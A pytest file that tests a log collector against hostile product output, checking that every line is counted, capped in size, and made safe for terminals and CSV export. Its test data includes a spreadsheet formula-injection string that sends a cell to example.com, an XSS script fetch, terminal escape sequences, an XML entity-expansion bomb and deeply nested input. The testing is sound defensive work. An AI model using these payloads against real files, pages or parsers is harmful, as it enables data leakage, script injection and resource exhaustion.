"""The collector fed by a hostile product: nothing raises, nothing grows without bound, every line is counted."""

import json
import time

import pytest

from products.collect import Collector
from products.formats import LINE_CAP
from products.mapping import mapping_folders, read_mapping, source_of
from products.normalise import FIELD_CAP, RAW_CAP
from products.source import Format, Source
from results.printable import csv_cell, printable

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m\u202e\u200b\x00\x08\r"
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"x")'
SCRIPT = "</script><script>fetch('//example.com')</script><img src=x onerror=alert(1)>"
HOSTILE = [
    b"",
    b"\x00" * 5000,
    b"\xff\xfe\xfa" * 1000,
    b"A" * (10 * 1024 * 1024),
    b'{"title": "' + b"B" * (10 * 1024 * 1024) + b'"}',
    b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    b"[" * 100_000,
    b'{"title": 1e400, "pid": -1, "techniques": {"T1059": 1}, "time": "99999-99-99T99:99:99Z"}',
    b'{"title": ' + b"9" * 10_000 + b"}",
    b'{"title": "\\ud800", "rule_id": "\\u0000"}',
    json.dumps({"title": ESCAPES + SCRIPT, "rule_id": FORMULA}).encode(),
    json.dumps({"title": [SCRIPT] * 5000, "techniques": [f"T{n:04}" for n in range(9999)]}).encode(),
    json.dumps({f"k{n}": n for n in range(20_000)}).encode(),
    b"CEF:0|" + b"a=\\" * 20_000,
    b"CEF:0|a|b|c|d|e|f|" + b" a=" * 20_000,
    b"LEEF:2.0|a|b|c|d|x00|" + b"a=b\x00" * 10_000,
    b"<13>1 " + b"[a " * 20_000,
    b"<a " + b'b="' * 20_000,
    b'<!DOCTYPE a [<!ENTITY b "' + b"c" * 5000 + b'">]><a>' + b"&b;" * 5000 + b"</a>",
    b'k="' + b'\\"' * 30_000,
    "日本語\u3000＝cmd".encode() + b"\xe3",
]
FIELDS = {
    "time": "first([time, syslog.time])",
    "title": "first([title, name, msg, k, a])",
    "rule_id": "rule_id",
    "techniques": "techniques",
    "pid": "pid",
    "severity": "severity(title, 'words')",
    "command_line": "joined(title, ' ')",
}


def make_source(form: Format, **changes: object) -> Source:
    pattern = {"pattern": "^(?P<title>.*)$"} if form is Format.REGEX else {}
    fields = {"component": "agent", "file": "/log", "format": form, "map": FIELDS, **pattern, **changes}
    return Source.model_validate(fields)


@pytest.mark.parametrize("form", list(Format))
def test_hostile_lines_are_counted_and_bounded_in_every_format(form: Format):
    """Else a product could end the trial, or fill the memory, by what it prints."""
    collector = Collector([("alerts", make_source(form)), ("telemetry", make_source(form, syslog={}, file=None))],
                          lambda _component, pid: pid)  # fmt: skip
    for line in HOSTILE:
        for index in (0, 1):
            collector.feed(index, line, time.time_ns())
    lines = sum(bool(line.strip()) for line in HOSTILE)
    for count in collector.counts():
        assert count.received == lines
        assert count.kept + count.skipped + count.unreadable + count.dropped == lines
    for kept in (*collector.alerts(), *collector.telemetry()):
        assert len(kept.raw) <= RAW_CAP
        assert all(len(text) <= FIELD_CAP for text in (kept.title or "", kept.rule_id or "", kept.command_line or ""))
        assert len(kept.techniques) <= 64
        kept.model_dump_json()


@pytest.mark.parametrize("folder", mapping_folders(), ids=lambda folder: folder.name)
def test_hostile_lines_are_counted_with_every_ready_made_mapping(folder):  # a Path
    """Else an expression of ours could be made to raise by the product that it is for."""
    source = source_of(read_mapping(folder))
    collector = Collector([("alerts", source)], lambda _component, pid: pid)
    for line in HOSTILE:
        collector.take(0, line, time.time_ns())
    (count,) = collector.counts()
    assert count.kept + count.skipped + count.unreadable + count.dropped == count.received


def test_what_a_hostile_line_leaves_is_harmless_on_a_screen_and_in_a_spreadsheet():
    """Else an alert could rewrite a terminal, or run when the data is opened in a spreadsheet."""
    collector = Collector([("alerts", make_source(Format.JSON_LINES))], lambda _component, pid: pid)
    collector.feed(0, json.dumps({"title": ESCAPES + SCRIPT, "rule_id": FORMULA}).encode(), time.time_ns())
    (alert,) = collector.alerts()
    shown = printable(alert.title or "")
    assert not {"\x1b", "\x07", "\u202e", "\u200b", "\x00", "\r"} & set(shown)
    assert csv_cell(alert.rule_id) == f"'{FORMULA}"


def test_a_value_that_holds_itself_a_million_times_is_cut():
    """Else one expression of a hostile manifest could fill the evaluator's memory (lint refuses more than this)."""
    bomb = " | ".join(["[@, @]"] * 40)
    source = make_source(Format.JSON_LINES, map={"title": bomb, "rule_id": f"to_string({bomb})",
                                                 "command_line": f"joined([{bomb}], ' ')"})  # fmt: skip
    collector = Collector([("alerts", source)], lambda _component, pid: pid)
    collector.feed(0, b'{"a": 1}', time.time_ns())
    (alert,) = collector.alerts()
    assert all(text is not None and len(text) == FIELD_CAP for text in (alert.title, alert.rule_id, alert.command_line))


def test_half_a_character_is_spelled_out():
    """Else the alert could not be written, and the whole trial would be lost to one line."""
    collector = Collector([("alerts", make_source(Format.JSON_LINES))], lambda _component, pid: pid)
    collector.feed(0, b'{"title": "\\ud800x", "techniques": ["\\udfff"]}', time.time_ns())
    (alert,) = collector.alerts()
    assert alert.title == "\\ud800x"
    assert alert.model_dump_json()


def test_a_line_of_ten_megabytes_is_read_as_far_as_the_cap():
    """Else its end would be lost without a word: length and hash are those of the whole line."""
    collector = Collector([("alerts", make_source(Format.REGEX))], lambda _component, pid: pid)
    collector.feed(0, b"A" * (10 * 1024 * 1024), time.time_ns())
    (alert,) = collector.alerts()
    assert (len(alert.raw), alert.raw_length) == (RAW_CAP, 10 * 1024 * 1024)
    assert alert.raw_length > LINE_CAP
